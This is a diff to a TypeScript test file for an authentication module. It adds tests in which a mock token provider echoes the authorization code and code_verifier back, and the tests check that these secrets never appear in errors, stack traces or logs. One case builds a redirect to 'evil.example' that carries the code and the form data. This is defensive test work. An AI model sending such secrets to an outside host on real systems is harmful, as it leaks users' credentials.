@@ -2,7 +2,7 @@ import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { createSession } from '../../../src/auth/session.ts';
 import { openTokenStore } from '../../../src/auth/tokens/token-store.ts';
 import { visit } from './support/http.ts';
-import { replyJson } from './support/issuer.ts';
+import { reply, replyJson } from './support/issuer.ts';
 import { createWorld, type Process, refusal, until, type World } from './support/world.ts';
 
 let world: World;
@@ -100,6 +100,29 @@ describe('S3: secrets in no text', () => {
     expect(text).toContain('[redacted]');
     expect(text).not.toContain(form.get('code'));
     expect(text).not.toContain(form.get('code_verifier'));
+  });
+
+  it.each<[string, (form: URLSearchParams) => ReturnType<typeof replyJson>]>([
+    ['as its error', (form) => replyJson(400, { error: `${form.get('code')} ${form.get('code_verifier')}` })],
+    [
+      'in a redirect',
+      (form) => reply(307, '', { location: `https://evil.example/${form.get('code')}?${form}` }),
+    ],
+    [
+      'in a body that is no JSON',
+      (form) =>
+        reply(200, `${form.get('code_verifier')?.slice(0, 24)}`, { 'content-type': 'application/json' }),
+    ],
+  ])('a provider that echoes them %s: not even in the private causes', async (_name, reply) => {
+    world.issuer.behaviour.token = reply;
+    const edges = world.process();
+    const error = await refusal(world.login(edges));
+    const chain: string[] = [];
+    for (let it: unknown = error; it instanceof Error; it = it.cause) chain.push(it.message, it.stack ?? '');
+    const text = [...chain, error.hint, ...edges.lines].join('\n');
+    const { form } = world.issuer.at('token')[0]!;
+    expect(text).not.toContain(form.get('code'));
+    expect(text).not.toContain(form.get('code_verifier')?.slice(0, 24));
   });
 
   it('a provider that echoes the refresh token', async () => {
